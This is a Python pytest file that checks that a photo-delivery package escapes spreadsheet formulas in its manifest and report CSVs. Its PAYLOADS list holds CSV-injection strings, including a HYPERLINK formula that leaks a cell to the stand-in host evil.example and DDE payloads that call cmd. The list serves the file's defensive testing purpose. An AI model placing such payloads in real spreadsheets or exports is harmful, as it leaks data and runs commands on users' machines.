"""Every CSV a person opens in a spreadsheet: no cell from client data is read as a formula."""

from __future__ import annotations

import csv
import hashlib
import io
from pathlib import Path

import pytest

from packshot.delivery import build_package
from packshot.local.report import write_outputs

# OWASP "CSV injection": a spreadsheet evaluates a cell that starts with one of these.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(text: str) -> None:
    dangerous = [c for c in cells(text) if c.startswith(FORMULA_STARTS)]
    assert not dangerous, dangerous


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_delivery_manifest_csv_escapes_a_formula_from_the_client_s_manifest(payload: str) -> None:
    data = b"jpeg bytes"
    record = {"image_id": "img-1", "source_key": f"shoot/{payload}.jpg", "status": "exported", "sku": payload,
              "qc_score": 95, "export_files": [{
                  "platform": "shopify", "format": "JPEG", "key": "exports/shopify/x.jpg", "name": "x.jpg",
                  "sha256": hashlib.sha256(data).hexdigest(), "width": 10, "height": 10, "naming_note": payload}]}

    package = build_package("shoot", [record], lambda key: data)

    text = package.manifest_csv.decode()
    assert_no_formula(text)
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["sku"] == "'" + payload  # kept, readable, and inert
    assert row["bytes"] == str(len(data))  # numbers stay numbers


@pytest.mark.parametrize("payload", PAYLOADS)
def test_report_csv_escapes_a_formula_in_a_key_or_a_reason(tmp_path: Path, payload: str) -> None:
    name = payload.replace("\t", "").replace("\r", "").replace("/", "").replace('"', "") + ".jpg"
    (tmp_path / name).write_bytes(b"not really a photo")
    records = {name: {"image_id": "img-1", "status": "rejected", "reasons": [payload], "exports": {}}}

    write_outputs(records, [name], tmp_path, tmp_path / "out", fetch=lambda bucket, key: b"")

    with (tmp_path / "out" / "report.csv").open(encoding="utf-8", newline="") as fh:
        assert_no_formula(fh.read())
